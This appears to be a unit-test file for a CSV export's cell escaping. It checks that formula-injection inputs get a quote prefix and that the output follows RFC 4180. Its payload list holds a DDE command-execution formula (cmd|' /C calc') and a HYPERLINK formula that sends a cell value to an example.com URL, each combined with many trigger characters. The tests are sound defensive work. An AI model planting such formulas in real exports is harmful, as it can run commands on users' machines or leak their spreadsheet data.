import { csvLines } from '../export/csv-lines.js';
import { toCell } from './csv-cell.js';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const FORMULAS = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://example.com?x="&A1,"click")', 'SUM(A1:A9)'];
const PAYLOADS = [
  ...STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)),
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\n=1+1',
  '\r\n@SUM(1)',
  '\u200B+1',
  '  -2+3',
];

describe('cells', () => {
  it(`of ${String(PAYLOADS.length)} formulas none can run`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    for (const payload of PAYLOADS) expect([payload, toCell(payload)]).toEqual([payload, `'${payload}`]);
  });

  it.each(['Voluntary', 'a=b', '2026-11-20', '1-2', "O'Brien", '', 'Łódź'])('%j stays as it is', (text) => {
    expect(toCell(text)).toBe(text);
  });

  it('leaves numbers of ours alone and writes nothing for null', () => {
    expect([toCell(-5), toCell(0), toCell(null), toCell(true)]).toEqual(['-5', '0', '', 'true']);
  });
});

describe('CSV', () => {
  it('is written as RFC 4180 demands', () => {
    const table = {
      columns: ['a', 'b'],
      rows: [
        ['with "quotes"', 'with, comma'],
        ['line\nbreak', 'carriage\rreturn'],
        ['=1', -1],
      ] as const,
    };
    expect(Buffer.concat([...csvLines(table)]).toString()).toBe('a,b\r\n"with ""quotes""","with, comma"\r\n"line\nbreak","carriage\rreturn"\r\n\'=1,-1\r\n');
  });

  it('writes many rows in pieces that together are one table', () => {
    const rows = Array.from({ length: 1_234 }, (_, index) => [index]);
    const pieces = [...csvLines({ columns: ['n'], rows })];
    expect(pieces.length).toBe(4);
    expect(Buffer.concat(pieces).toString().trimEnd().split('\r\n')).toEqual(['n', ...rows.map(String)]);
  });
});
